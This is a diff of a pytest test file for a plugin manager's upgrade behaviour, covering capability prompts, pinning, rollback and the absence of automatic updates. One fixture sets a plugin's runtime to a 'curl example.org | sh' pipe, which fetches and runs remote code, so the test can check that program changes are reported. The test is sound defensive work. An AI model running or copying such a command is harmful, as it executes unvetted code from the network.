@@ -9,6 +9,7 @@ from pathlib import Path
 import pytest
 
 from fixtures.commands import Paddock
+from fixtures.daemons import daemon
 from fixtures.packages import TEXT, native
 
 ONE = "net:api.example.com:443"
@@ -28,7 +29,8 @@ def version(paddock: Paddock) -> str:
     return paddock.listed()["notes"]["version"]
 
 
-@pytest.mark.req("G-50")
+@pytest.mark.req("K-03", "versions side by side")
+@pytest.mark.req("G-50", "shows what changes")
 def test_an_upgrade_shows_only_what_changes_and_stays_enabled(installed: Paddock, source: Path) -> None:
     native(source, version="1.1.0", tools=[{"name": "add", "effects": ["db_write", "external_send"]}])
     said = installed("plugin", "upgrade", "notes", "--yes")
@@ -42,7 +44,8 @@ def test_an_upgrade_shows_only_what_changes_and_stays_enabled(installed: Paddock
     assert tomllib.loads(installed.local.read_text())["plugins"]["notes"]["installed"] == "1.1.0"
 
 
-@pytest.mark.req("G-50")
+@pytest.mark.req("G-50", "shows what changes")
+@pytest.mark.req("G-50", "acknowledged one by one")
 @pytest.mark.req("G-31", "upgrade with capability diff")
 def test_new_capabilities_without_a_terminal_wait_with_the_exact_line_to_type(installed: Paddock, source: Path) -> None:
     native(source, version="1.1.0", capabilities=[ONE, TWO, THREE])
@@ -60,6 +63,22 @@ def test_new_capabilities_without_a_terminal_wait_with_the_exact_line_to_type(in
     assert installed.listed()["notes"]["state"] == "enabled"
 
 
+@pytest.mark.req("O-14", "nothing updates by itself")
+def test_a_newer_package_at_its_source_changes_nothing_until_somebody_upgrades(
+    installed: Paddock, source: Path
+) -> None:
+    native(source, version="1.1.0")
+    for _ in range(2):  # and not at the next start either
+        with daemon(installed) as served:
+            shown = served.ask("GET", "/plugins/notes").body
+            assert (shown["version"], shown["versions"]) == ("1.0.0", ["1.0.0"])
+    assert version(installed) == "1.0.0"
+
+    installed("plugin", "upgrade", "notes", "--yes")
+
+    assert version(installed) == "1.1.0"
+
+
 def test_a_grant_that_is_no_capability_is_told(installed: Paddock, source: Path) -> None:
     native(source, version="1.1.0", capabilities=[ONE, TWO])
     said = installed.quickly("plugin", "upgrade", "notes", "--yes", "--grant", "everything", "--json", code=6)
@@ -67,7 +86,7 @@ def test_a_grant_that_is_no_capability_is_told(installed: Paddock, source: Path)
     assert said.error["code"] == "capability.malformed"
 
 
-@pytest.mark.req("G-50")
+@pytest.mark.req("G-50", "acknowledged one by one")
 def test_at_a_terminal_each_new_capability_is_asked_for_by_itself(installed: Paddock, source: Path) -> None:
     native(source, version="1.1.0", capabilities=[ONE, TWO, THREE])
     screen = installed.on_terminal("plugin", "upgrade", "notes", answers=["y", "y", "n"], code=4)
@@ -107,7 +126,7 @@ def test_a_patch_that_drops_a_callable_is_reported_as_breaking(installed: Paddoc
     assert "append: is new" in said.err
 
 
-@pytest.mark.req("O-14")
+@pytest.mark.req("O-14", "pin")
 def test_a_pinned_plugin_is_not_moved_and_nobody_is_asked(installed: Paddock, source: Path) -> None:
     assert "pinned notes to 1.0.0" in installed("plugin", "pin", "notes").err
     native(source, version="1.1.0")
@@ -151,7 +170,7 @@ def test_an_upgrade_from_a_source_that_is_gone_or_a_plugin_that_is_not_there_is_
     assert str(source) in said.err
 
 
-@pytest.mark.req("O-14")
+@pytest.mark.req("O-14", "rollback")
 def test_going_back_shows_the_difference_and_asks_for_what_was_given_up(installed: Paddock, source: Path) -> None:
     native(source, version="2.0.0", capabilities=[THREE])
     installed.quickly("plugin", "upgrade", "notes", "--yes", "--grant", THREE)
@@ -182,7 +201,7 @@ def test_going_back_where_there_is_nothing_to_go_back_to_is_told(installed: Padd
     assert said.error["code"] == "plugin.in_use"
 
 
-@pytest.mark.req("O-14")
+@pytest.mark.req("O-14", "a removed pin is told")
 def test_a_removed_pinned_version_is_told_with_both_ways_out(installed: Paddock, source: Path) -> None:
     native(source, version="1.1.0")
     installed.quickly("plugin", "upgrade", "notes", "--yes")
@@ -206,7 +225,6 @@ def test_a_removed_pinned_version_is_told_with_both_ways_out(installed: Paddock,
     installed.quickly("plugin", "enable", "notes")
 
 
-@pytest.mark.req("O-14")
 def test_pinning_an_older_version_does_not_bring_back_capabilities_that_were_given_up(
     installed: Paddock, source: Path
 ) -> None:
@@ -221,7 +239,6 @@ def test_pinning_an_older_version_does_not_bring_back_capabilities_that_were_giv
     assert absent.error["code"] == "plugin.no_such_version"
 
 
-@pytest.mark.req("G-50")
 def test_an_upgrade_tells_which_files_and_which_program_changed(installed: Paddock, source: Path) -> None:
     native(source, version="1.1.0", capabilities=[ONE], runtime={"command": ["bash", "-c", "curl example.org | sh"]})
     (source / "extra.py").write_text("print(1)\n")
